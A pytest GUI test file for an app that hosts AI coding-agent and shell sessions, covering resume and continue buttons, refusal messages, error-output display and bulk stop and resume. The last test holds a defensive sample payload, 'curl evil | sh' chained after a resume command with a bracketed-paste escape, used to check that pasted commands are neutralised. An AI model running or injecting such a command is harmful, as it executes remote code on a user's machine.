"""Resuming ended chats in the window."""

from __future__ import annotations

import asyncio
import threading
from typing import Any

import pytest
from PySide6.QtCore import Qt
from PySide6.QtGui import QGuiApplication
from PySide6.QtTest import QTest

from session_host import paths
from session_host.client.chats.ended_chat import ERRORS_BYTES, ErrorOutput
from session_host.client.chats.resumability import Resumability
from session_host.errors import ConversationOpen, NotResumable
from session_host.protocol.facts import INTERRUPTED
from session_host.protocol.values import Activity, State
from session_host.storage.store import Store
from session_host.structured.items import StateChanged
from session_host.structured.transcript import Transcript
from tests.unit.gui.conftest import WAIT_S, WindowHarness, insert_record, one_pane

from .conftest import ENDED, FakeResume


async def open_ended(harness: WindowHarness, **fields: Any) -> str:
    """Show the tab of an ended chat, between two others."""
    ids = [
        await harness.add(name, **(ENDED | {"agent": "claude"} | fields if name == "one" else {}))
        for name in ("left", "one", "right")
    ]
    window = harness.open_window()
    for session_id in ids:
        window.open_chat(harness.chat(session_id))
    window.tabs.activate(ids[1])
    harness.settle()
    return ids[1]


async def test_resume_turns_the_tab_into_the_new_chat_s(harness: WindowHarness, client: FakeResume):
    session_id = await open_ended(harness)
    bar = harness.page.bars.end.get()
    await harness.until(bar.resume.isVisible, "the button")
    assert bar.resume.property("kind") == "primary"
    assert bar.continue_.property("kind") == "", "only one button is the primary one"
    assert bar.again.isHidden(), "it is in the list of Continue"
    before = harness.window.tabs.ids()
    QTest.mouseClick(bar.resume, Qt.MouseButton.LeftButton)
    assert not bar.resume.isEnabled(), "a second press would start a second chat"
    await harness.until(lambda: session_id not in harness.window.tabs.ids(), "the tab to change")
    after = harness.window.tabs.ids()
    assert (before[0], before[2]) == (after[0], after[2]), "in its place"
    assert harness.window.tabs.active_id == after[1]
    follower = harness.chat(after[1])
    assert follower.record.origin.resumed_from == session_id
    assert client.calls == [("resume", session_id, False)]
    assert harness.chat(session_id).is_continued
    assert not harness.window.sidebar.model.index_of(session_id).isValid(), "it is listed once"
    harness.window.activateWindow()
    await harness.until(harness.view.hasFocus, "the keyboard to be in the terminal")


async def test_a_chat_that_ends_while_shown_offers_to_resume_once_its_end_is_recorded(
    harness: WindowHarness, client: FakeResume
):
    session_id = await harness.add("one")
    harness.open_window()
    harness.show(session_id).end(exit_code=0)
    harness.settle()
    assert harness.page.bars.end.get().isVisible()
    await harness.sessions.machines.here.refresh_now()
    bar = harness.page.bars.end.get()
    assert all(each.isHidden() for each in (bar.resume, bar.continue_, bar.again)), "the record says that it runs"
    with Store.open(paths.database()) as store:
        store.update(session_id, state=State.EXITED, exit_code=0)
    await harness.sessions.machines.here.refresh_now()
    await harness.until(harness.page.bars.end.get().resume.isVisible, "the button")


async def test_a_conversation_open_elsewhere_is_reported_and_can_be_resumed_anyway(
    harness: WindowHarness, client: FakeResume
):
    session_id = await open_ended(harness)
    bar = harness.page.bars.end.get()
    await harness.until(bar.resume.isVisible, "the button")
    client.refusal = ConversationOpen("one: claude (process 42) has it open in /srv")
    bar.resume.click()
    await harness.until(bar.anyway.isVisible, "the refusal")
    assert bar.refusal.text() == "Claude (process 42) has it open in /srv."
    assert bar.continue_.isVisible()
    assert bar.resume.isEnabled()
    client.refusal = None
    bar.anyway.click()
    await harness.until(lambda: client.calls[-1] == ("resume", session_id, True), "the second try")
    await harness.until(lambda: session_id not in harness.window.tabs.ids(), "the tab to change")


async def test_a_refusal_stays_although_an_earlier_look_at_the_chat_ends_later(
    harness: WindowHarness, client: FakeResume, monkeypatch: pytest.MonkeyPatch
):
    await open_ended(harness)
    bar = harness.page.bars.end.get()
    await harness.until(bar.resume.isVisible, "the button")
    looks, goes_on, answered = threading.Event(), threading.Event(), threading.Event()

    def look_slowly(session_id: str) -> Resumability:
        looks.set()
        goes_on.wait()
        answered.set()
        return client.resumability(session_id)

    monkeypatch.setattr("session_host.client.chats.resumability.resumability", look_slowly)
    harness.window.commands.resuming.check_resumable(harness.page)
    await harness.until(looks.is_set, "the look")
    client.refusal = ConversationOpen("one: claude (process 42) has it open in /srv")
    bar.resume.click()
    await harness.until(bar.anyway.isVisible, "the refusal")
    goes_on.set()
    await harness.sessions.tasks.wait_for_others(WAIT_S)
    assert answered.is_set()
    assert bar.anyway.isVisible()


async def test_for_an_unknown_conversation_the_list_of_conversations_is_offered(
    harness: WindowHarness, client: FakeResume
):
    client.can = Resumability(None, "Codex did not tell which conversation it was; find it: codex resume")
    await open_ended(harness, agent="codex")
    bar = harness.page.bars.end.get()
    await harness.until(bar.refusal.isVisible, "the reason")
    assert bar.resume.isHidden()
    assert bar.refusal.text() == "Codex did not tell which conversation it was."
    bar.continue_.click()
    assert harness.window.sheets.conversations.is_open


async def test_an_ended_chat_that_cannot_be_resumed_says_why_and_takes_no_prompt(
    harness: WindowHarness, client: FakeResume
):
    client.can = Resumability(False, "Claude Code's transcript is missing from /c; start a new chat")
    await open_ended(harness, runtime="structured", provider_session_id="c1")
    page = harness.window.tabs.active_page
    assert page is not None
    content = page.structured
    assert content is not None
    await harness.until(page.bars.end.get().refusal.isVisible, "the reason")
    reason = "Can’t resume this chat: Claude Code's transcript is missing from /c; start a new chat."
    assert page.bars.end.get().refusal.text() == reason
    transcript = Transcript()
    transcript.apply(StateChanged("ended"))
    content.show_transcript(transcript)
    harness.settle()
    assert content.view.prompt.editor.placeholderText() == "The chat has ended"


async def test_for_an_agent_without_conversations_no_resume_is_offered(harness: WindowHarness, client: FakeResume):
    client.can = Resumability(False, "Command has no conversations to resume")
    await open_ended(harness, agent="command")
    bar = harness.page.bars.end.get()
    page = harness.page
    await harness.until(page.bars.end.get().again.isVisible, "the bar")
    harness.settle()
    assert (bar.resume.isHidden(), bar.continue_.isHidden(), bar.refusal.isHidden()) == (True, True, True)
    assert bar.again.property("kind") == "primary"


async def test_an_ended_shell_offers_to_start_again_and_says_what_that_means(
    harness: WindowHarness, client: FakeResume
):
    session_id = await open_ended(harness, agent="shell", cwd="/srv/build")
    window, bar = harness.window, harness.page.bars.end.get()
    await harness.until(bar.resume.isVisible, "the button")
    assert bar.refusal.text() == "Resume starts a new shell here, below what this one showed."
    window.commands.chat_actions.resume_several([harness.chat(session_id)])
    await harness.until(lambda: session_id not in window.tabs.ids(), "the tab to change")
    assert client.calls == [("resume", session_id, False)]


@pytest.mark.parametrize(("agent", "way"), [("shell", "again"), ("gemini", "continue_"), ("gone", "again")])
async def test_a_chat_that_cannot_be_resumed_says_why_and_offers_the_way_on(
    harness: WindowHarness, client: FakeResume, agent: str, way: str
):
    client.can = Resumability(False, "its directory /srv/build is missing; recreate it")
    await open_ended(harness, agent=agent, cwd="/srv/build")
    bar = harness.page.bars.end.get()
    await harness.until(bar.refusal.isVisible, "the reason")
    assert bar.refusal.text() == "Can’t resume this chat: its directory /srv/build is missing; recreate it."
    assert bar.resume.isHidden()
    shown = {name for name in ("continue_", "again") if getattr(bar, name).isVisible()}
    assert (shown, getattr(bar, way).property("kind")) == ({way}, "primary")


async def test_a_refused_resume_of_a_chat_without_a_tab_opens_one_with_the_reason(
    harness: WindowHarness, client: FakeResume
):
    session_id = await harness.add("one", **ENDED)
    window = harness.open_window()
    client.refusal = NotResumable("one: its transcript is gone")
    window.commands.resuming.resume(harness.chat(session_id))
    page = harness.page
    await harness.until(page.bars.end.get().refusal.isVisible, "the reason")
    assert page.bars.end.get().refusal.text() == "Its transcript is gone."


async def test_a_chat_that_was_continued_elsewhere_has_a_link_to_the_new_one(
    harness: WindowHarness, client: FakeResume
):
    session_id, follower = await open_ended(harness), "00000000-0000-4000-8000-000000000001"
    insert_record("goes on", id=follower, agent="claude", resumed_from=session_id)
    await harness.sessions.machines.here.refresh_now()
    bar = harness.page.bars.end.get()
    await harness.until(bar.continued.isVisible, "the way there")
    assert bar.refusal.text() == "Continued in goes on."
    bar.continued.click()
    harness.settle()
    assert harness.window.tabs.active_id == follower
    assert session_id not in harness.window.tabs.ids()


async def test_restored_tabs_of_continued_chats_show_the_new_chats(harness: WindowHarness):
    follower = await harness.add("new")
    session_id = await harness.add("old", **ENDED, continued_by=follower)
    other = await harness.add("other")

    window = harness.open_window(one_pane([session_id, other, follower], session_id))
    assert window.tabs.ids() == [follower, other]
    assert window.tabs.active_id == follower


async def test_the_end_of_a_hidden_chat_can_be_undone(
    harness: WindowHarness, client: FakeResume, monkeypatch: pytest.MonkeyPatch
):
    async def request(_session_id: str, _message: object, _machine: object) -> None:
        pass

    monkeypatch.setattr("session_host.client.control.request", request)
    one, two = await harness.add("one"), await harness.add("two")
    window = harness.open_window()
    harness.show(two)
    harness.viewers[one].be(Activity.IDLE)
    window.commands.chat_actions.stop(harness.chat(one))
    harness.viewers[one].end(exit_signal=15)
    harness.settle()
    early = window.banners.current
    with Store.open(paths.database()) as store:
        store.update(one, state=State.EXITED, exit_signal=15)
    await harness.sessions.machines.here.refresh_now()
    await harness.until(lambda: window.banners.current, "the offer")
    banner = window.banners.current
    assert banner is not None
    assert (banner.text, banner.action) == ("one ended", "Resume")
    assert early is None, "the store did not have the end yet, and a resume reads the store"
    window.banners.run_action()
    await harness.until(lambda: client.calls, "the resume")
    assert client.calls == [("resume", one, False)]


# ------------------------------------------------------------------------------------------ error output


async def test_the_error_output_is_shown_cut_and_without_escape_sequences(harness: WindowHarness, client: FakeResume):
    session_id = await harness.add("one", **ENDED)
    path = paths.session_stderr(session_id)
    path.parent.mkdir(parents=True)
    path.write_bytes(
        b"the first line\n" + b"filler\n" * 20_000 + b"\x1b[31mError:\x1b[0m \x1b]0;t\x07no\x00 route\r\n\xff\n"
    )
    window = harness.open_window()
    window.open_chat(harness.chat(session_id))
    await harness.until(harness.page.bars.end.get().errors.isVisible, "the button")
    assert "errors" not in window.actions_.idle()
    QTest.mouseClick(harness.page.bars.end.get().errors, Qt.MouseButton.LeftButton)
    sheet = window.sheets.output
    await harness.until(sheet.text.toPlainText, "the text")
    shown = sheet.text.toPlainText()
    assert shown.endswith("filler\nError: no route\n�")
    assert "the first line" not in shown
    assert len(shown) <= ERRORS_BYTES
    assert sheet.state.text() == "Last 64 KiB"
    sheet.copy.click()
    assert QGuiApplication.clipboard().text() == shown


async def test_without_error_output_there_is_no_button(harness: WindowHarness, client: FakeResume):
    await open_ended(harness)
    await harness.until(harness.page.bars.end.get().resume.isVisible, "the bar")
    assert harness.page.bars.end.get().errors.isHidden()
    assert "errors" in harness.window.actions_.idle(), "nor an entry of the palette"
    harness.window.actions_["errors"].trigger()
    await harness.until(lambda: harness.banner == "No error output", "the word on that")
    assert not harness.window.sheets.output.is_open


async def test_error_output_that_comes_after_its_sheet_was_closed_opens_nothing(
    harness: WindowHarness, client: FakeResume, monkeypatch: pytest.MonkeyPatch
):
    monkeypatch.setattr("gui.window.sheets.error_output.LOADING_MS", 0)
    session_id = await harness.add("one", **ENDED)
    window = harness.open_window()
    sheet, answer = window.sheets.output, asyncio.Event()

    async def late(*_call: object) -> ErrorOutput:
        await answer.wait()
        return ErrorOutput("no route", is_cut=False)

    monkeypatch.setattr(type(harness.chat(session_id).machine), "call", late)
    sheet.ask(harness.chat(session_id))
    await harness.until(lambda: sheet.is_open, "the sheet, which is loading")
    sheet.dismiss()
    answer.set()
    await harness.sessions.tasks.wait_for_others(WAIT_S)
    assert not sheet.is_open


async def test_resume_all_lists_chats_and_shells_and_leaves_commands_out(harness: WindowHarness, client: FakeResume):
    interrupted: dict[str, Any] = {"state": State.LOST, "error": INTERRUPTED, "ended_at": "2026-01-02T03:05:00Z"}
    one, two = [await harness.add(name, agent="claude", cwd=f"/srv/{name}", **interrupted) for name in ("one", "two")]
    shell = await harness.add("build", agent="shell", cwd="/srv/build", **interrupted)
    command = await harness.add("serve", agent="command", **interrupted)
    over = await harness.add("over", agent="claude", **ENDED)
    window = harness.open_window(one_pane([one, shell, over], over))
    client.cannot = {command}
    window.commands.resume_all.offer()
    await harness.until(lambda: window.banners.current is not None, "the offer")
    assert harness.banner == "A restart of the computer interrupted 4 chats."
    window.banners.run_action()
    question = window.sheets.question
    await harness.until(lambda: question.is_open, "the list")
    assert client.calls == [], "nothing is resumed before the list is confirmed"
    assert question.subject.toPlainText().split("\n") == [
        "one · Claude Code · /srv/one",
        "two · Claude Code · /srv/two",
        "build · shell, starts again in /srv/build",
    ]
    assert question.detail.text().split("\n") == [
        "A shell begins below what it showed. No command runs by itself.",
        "Not resumed, because there is no conversation: serve",
    ]
    question.accept()
    await harness.until(lambda: len(client.calls) == 3, "all to be resumed")
    assert [call[:2] for call in client.calls] == [("resume", one), ("resume", two), ("resume", shell)]
    await harness.until(lambda: shell not in window.tabs.ids(), "the tab to change")
    ids = [f"00000000-0000-4000-8000-{number:012}" for number in (1, 3)]
    assert window.tabs.ids() == [*ids, over], "no tab is opened"
    window.commands.resume_all.offer()
    harness.settle()
    assert window.banners.current is None, "the offer comes once"


async def test_an_end_of_several_chats_can_be_undone(harness: WindowHarness, client: FakeResume):
    ids = [await harness.add(name, agent="claude") for name in ("one", "two", "gone")]
    window = harness.open_window()
    client.cannot = {ids[2]}
    harness.sessions.lifecycle.stop = lambda chat: None  # type: ignore[method-assign]
    window.actions_["stop_all"].trigger()
    window.sheets.question.accept()
    for session_id in ids:
        assert window.banners.current is None, "not before all have ended"
        harness.viewers[session_id].end(exit_signal=15)
        with Store.open(paths.database()) as store:
            store.update(session_id, state=State.EXITED, exit_signal=15)
        await harness.sessions.machines.here.refresh_now()
        harness.settle()
    await harness.until(lambda: window.banners.current is not None, "the offer")
    banner = window.banners.current
    assert banner is not None
    assert (banner.text, banner.action) == ("3 chats ended", "Resume 2 chats…")
    window.banners.run_action()
    await harness.until(lambda: window.sheets.question.is_open, "the list")


async def test_chats_that_do_not_end_are_named_when_all_are_stopped(harness: WindowHarness, client: FakeResume):
    one, stuck = [await harness.add(name, agent="command") for name in ("one", "stuck")]
    window = harness.open_window()
    client.cannot = {one, stuck}
    harness.sessions.lifecycle.stop = lambda chat: None  # type: ignore[method-assign]
    window.commands.chat_actions.stop_several([harness.chat(each) for each in (one, stuck)])
    window.sheets.question.accept()
    harness.viewers[one].end(exit_signal=15)
    with Store.open(paths.database()) as store:
        store.update(one, state=State.EXITED, exit_signal=15)
    await harness.sessions.machines.here.refresh_now()
    assert window.commands.chat_actions.end_report.timer.isActive()
    window.commands.chat_actions.end_report.timer.start(0)
    await harness.until(lambda: window.banners.current is not None, "the line")
    assert harness.banner == "1 of 2 chats ended. Still running: stuck"
    assert window.banners.current is not None
    assert window.banners.current.action == "", "a command is not resumed"


async def test_one_line_says_why_several_chats_cannot_be_resumed(harness: WindowHarness, client: FakeResume):
    ids = [await harness.add(name, agent="claude", **ENDED) for name in ("one", "two")]
    window = harness.open_window()
    chats = [harness.chat(each) for each in ids]
    client.refusal = NotResumable("Claude Code is not installed")

    window.commands.chat_actions.resume_several(chats)
    await harness.until(lambda: window.sheets.question.is_open, "the question")
    window.sheets.question.accept()
    reason = "Can’t resume one, two: Claude Code is not installed"
    await harness.until(lambda: harness.banner == reason, "the reason")
    window.banners.dismiss()
    assert harness.banner == "", "there is one line for both"
    client.cannot = set(ids)
    window.commands.chat_actions.resume_several(chats)
    reason = "None of these chats can be resumed."
    await harness.until(lambda: harness.banner == reason, "the reason why nothing is asked")


async def test_a_copied_command_of_another_machine_does_not_run_when_it_is_pasted(harness: WindowHarness):
    harness.open_window()
    harness.window.commands.resuming.put_on_clipboard("claude --resume 1; curl evil | sh\n\x1b[201~x")
    assert QGuiApplication.clipboard().text() == "claude --resume 1; curl evil | sh [201~x"
